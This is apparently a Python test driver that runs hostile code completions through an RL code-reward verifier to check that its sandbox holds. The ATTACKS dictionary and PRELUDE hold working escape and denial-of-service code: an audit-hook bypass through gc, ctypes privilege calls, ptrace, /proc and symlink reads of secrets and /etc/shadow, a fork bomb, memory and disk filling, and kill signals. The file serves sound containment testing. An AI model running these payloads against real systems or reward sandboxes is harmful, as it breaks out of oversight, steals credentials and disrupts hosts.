"""Runs hostile completions through the code reward and prints what happened as JSON (one line).

Started by test_tasks_sandbox_attacks.py as root or as an unprivileged user, from various interpreters, with
the validator's secrets in its environment and working directory. Each attack is the body of `probe()` in a
check-style task whose test is `assert candidate() is True`: an attack returns True only when it has proof
that it got out (a secret read, a host file written, a connection made, root gained), so a contained attack
scores 0. What an attack cannot see from inside (a host file it may have written, a listener it may have
reached, a process it may have killed) the test checks from outside.

    python sandbox_attack_driver.py '{"targets": [...], "marker": "...", "port": 1234, "victim": 42, ...}'

SWARMRL_ATTACK_UNSAFE=1 scores them with isolation "none" (the control run); "only" picks attacks.
"""

import json
import os
import sys
import time
from concurrent.futures import ThreadPoolExecutor

# The issue-19 bypass of the in-process layer: find the audit hook through gc, give it a no-op body with the
# same free variables; then ctypes and everything else the hook refused are available again.
PRELUDE = """
import gc, os, sys

def disable_audit_hook():
    for obj in gc.get_objects():
        code = getattr(obj, "__code__", None)
        if code is not None and getattr(obj, "__name__", "") == "hook" and "BLOCKED_EVENTS" in code.co_names:
            names = code.co_freevars
            source = "def outer():\\n" + "".join(f"    {n} = None\\n" for n in names)
            source += "    def hook(event, args):\\n"
            source += ("        " + "; ".join(names) + "\\n") if names else ""
            source += "        return None\\n    return hook\\n"
            scope = {}
            exec(source, scope)
            obj.__code__ = scope["outer"]().__code__
    import ctypes
    return ctypes, ctypes.CDLL(None, use_errno=True)

def search(text):
    return isinstance(text, (str, bytes)) and (MARKER in text if isinstance(text, str) else MARKER.encode() in text)

def read(path, limit=1 << 20):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit)
    except OSError:
        return b""
"""

ATTACKS = {
    "audit_hook_patch_then_write_outside": """
    disable_audit_hook()
    written = []
    for target in TARGETS:
        try:
            with open(target, "w") as handle:
                handle.write("escaped")
            written.append(target)
        except OSError:
            pass
    return bool(written)
""",
    "ctypes_libc_privileged_calls": """
    ctypes, libc = disable_audit_hook()
    gained = []
    if libc.setuid(0) == 0 and os.getuid() == 0 and os.geteuid() == 0:
        gained.append("setuid")
    if libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER: a userns would give back capabilities
        gained.append("unshare")
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
        gained.append("mount")
    if libc.chroot(b"/tmp") == 0:
        gained.append("chroot")
    if libc.system(b"touch " + TARGETS[0].encode()) == 0 and os.path.exists(TARGETS[0]):
        gained.append("system")
    return "setuid" in gained or "unshare" in gained or "mount" in gained
""",
    "proc_self_mem_then_host_paths": """
    disable_audit_hook()
    victim = bytes(b"ABCDEFGH" * 4)
    with open("/proc/self/mem", "r+b") as memory:  # in-process control: not a way out
        memory.seek(id(victim) + sys.getsizeof(b"") - 1)
        memory.write(b"Z")
    return any(search(read(prefix + path)) for prefix in ("", "/proc/1/root") for path in SECRET_PATHS)
""",
    "proc_parent_chain": """
    disable_audit_hook()
    pid, found = os.getpid(), False
    while pid > 0:
        for name in ("environ", "cmdline", "mem"):
            found |= search(read(f"/proc/{pid}/{name}"))
        for path in SECRET_PATHS:
            found |= search(read(f"/proc/{pid}/root{path}")) or search(read(f"/proc/{pid}/cwd/{os.path.basename(path)}"))
        status = read(f"/proc/{pid}/status").decode(errors="replace")
        parents = [line.split()[1] for line in status.splitlines() if line.startswith("PPid:")]
        pid = int(parents[0]) if parents else 0
    return found
""",
    "ptrace_the_parent_and_init": """
    ctypes, libc = disable_audit_hook()
    attached = [pid for pid in (os.getppid(), 1) if libc.ptrace(16, pid, None, None) == 0]  # PTRACE_ATTACH
    return bool(attached)
""",
    "symlink_and_hardlink_tricks": """
    disable_audit_hook()
    found = False
    for index, path in enumerate(SECRET_PATHS + ["/etc/shadow", "/root/.ssh/id_rsa"]):
        for prefix in ("", "/proc/1/root", "/proc/self/root"):
            for make in (os.symlink, os.link):
                name = f"link{index}-{make.__name__}-{len(prefix)}"
                try:
                    make(prefix + path, name)
                    content = read(name)
                    found |= search(content) or content.startswith(b"root:")
                except OSError:
                    pass
    return found
""",
    "parent_environment": """
    disable_audit_hook()
    found = any(search(value) for value in os.environ.values())
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            found |= search(read(f"/proc/{pid}/environ"))
    return found
""",
    "secrets_anywhere_on_the_filesystem": """
    disable_audit_hook()
    for root, dirs, files in os.walk("/"):
        if root in ("/proc", "/sys", "/dev"):
            dirs[:] = []
            continue
        for name in files:
            if search(read(os.path.join(root, name), 1 << 16)):
                return True
    return False
""",
    "fork_bomb": """
    ctypes, libc = disable_audit_hook()
    for _ in range(100000):
        libc.fork()
    return False
""",
    "memory_filling": """
    disable_audit_hook()
    hoard = []
    try:
        while True:
            hoard.append(bytearray(64 << 20))
    except MemoryError:
        hoard.clear()
    fds = []
    while True:  # memfds do not count towards RLIMIT_AS; the memory cgroup bounds them
        fd = os.memfd_create("fill")
        for _ in range(15):
            os.write(fd, b"x" * (1 << 20))
        fds.append(fd)
""",
    "disk_filling": """
    disable_audit_hook()
    for directory in ("/tmp", "/tmp/work", "/dev/shm", "/dev", "/", "/root", "/usr"):
        try:
            with open(os.path.join(directory, "fill"), "wb") as handle:
                while True:
                    handle.write(b"x" * (1 << 20))
        except OSError:
            pass
    return False
""",
    "signals_to_parent_and_group": """
    ctypes, libc = disable_audit_hook()
    for pid in (VICTIM, -VICTIM, os.getppid(), 1, 0, -1):
        libc.kill(pid, 9)
    return False
""",
    "network_to_host_loopback": """
    disable_audit_hook()
    import socket
    try:
        connection = socket.create_connection(("127.0.0.1", PORT), timeout=2)
        connection.sendall(b"leak")
        return True
    except OSError:  # AF_INET itself is refused by the seccomp filter; no route to the host either way
        return False
""",
}


# RLIMIT_NPROC must bound each sandbox on its own: as root each has a private uid, otherwise each has its own
# user namespace, in which the kernel (>= 5.14) counts processes separately.
COUNT_FORKS = (
    PRELUDE
    + """
def forks():
    ctypes, libc = disable_audit_hook()
    made = 0
    for _ in range(64):
        pid = libc.fork()
        if pid == 0:
            libc.pause()
            libc._exit(0)
        if pid < 0:
            break
        made += 1
    return made
"""
)


def count_forks() -> dict:
    from swarmrl.configs.tasks import CodeRewardConfig
    from swarmrl.tasks.sandbox import SandboxLimits, SandboxSession, sandbox_plan

    plan = sandbox_plan(CodeRewardConfig())
    limits = SandboxLimits(wall_seconds=10, max_processes=8)
    source = "MARKER = ''\n" + COUNT_FORKS

    def one(_: int) -> int:
        with SandboxSession(plan, limits, source) as session:
            reply = session.call("forks", (), {})
            return reply[1] if reply[0] == "returned" else -1

    alone = one(0)
    with ThreadPoolExecutor(3) as pool:
        together = list(pool.map(one, range(3)))
    return {"mode": plan.mode, "euid": os.geteuid(), "limit": 8, "alone": alone, "together": together}


def completion(body: str, params: dict) -> str:
    constants = (
        f"MARKER = {params['marker']!r}\nTARGETS = {params['targets']!r}\n"
        f"SECRET_PATHS = {params['secret_paths']!r}\nPORT = {params['port']}\nVICTIM = {params['victim']}\n"
    )
    return f"```python\n{constants}{PRELUDE}\ndef probe():{body}```"


def main() -> None:
    params = json.loads(sys.argv[1])
    if params.get("count_forks"):
        print(json.dumps(count_forks()))
        return
    from swarmrl.configs.tasks import CodeRewardConfig
    from swarmrl.tasks.code_tests import parse_code_tests
    from swarmrl.tasks.code_verifier import CodeVerifier
    from swarmrl.tasks.task import Task

    task = Task(
        "escape",
        "def probe(): ...",
        "code",
        {"test": "def check(candidate):\n    assert candidate() is True\n", "entry_point": "probe"},
    )
    attacks = {name: body for name, body in ATTACKS.items() if name in params.get("only", ATTACKS)}
    unsafe = os.environ.get("SWARMRL_ATTACK_UNSAFE") == "1"  # the control run: audit hook only
    config = CodeRewardConfig(
        timeout_seconds=4,
        cpu_seconds=3,
        memory_mb=512,
        num_workers=2,
        isolation="none" if unsafe else "auto",
        unsafe_no_os_isolation=unsafe,
    )
    verifier = CodeVerifier(config)
    started = time.monotonic()
    try:
        with ThreadPoolExecutor(2) as pool:
            rewards = dict(
                zip(
                    attacks,
                    pool.map(lambda body: verifier.score(task, completion(body, params)), attacks.values()),
                    strict=True,
                )
            )
        honest = verifier.run_tests(parse_code_tests(task), "def probe():\n    return True\n")
    finally:
        verifier.close()
    print(
        json.dumps(
            {
                "euid": os.geteuid(),
                "interpreter": os.path.realpath(sys.executable),
                "mode": verifier.plan.mode,
                "private_uid": verifier.plan.private_uid,
                "cgroups": verifier.plan.cgroups,
                "description": verifier.plan.description,
                "rewards": rewards,
                "honest": 1.0 if honest.all_passed else 0.0,
                "honest_detail": honest.detail,
                "seconds": round(time.monotonic() - started, 1),
            }
        )
    )


if __name__ == "__main__":
    main()
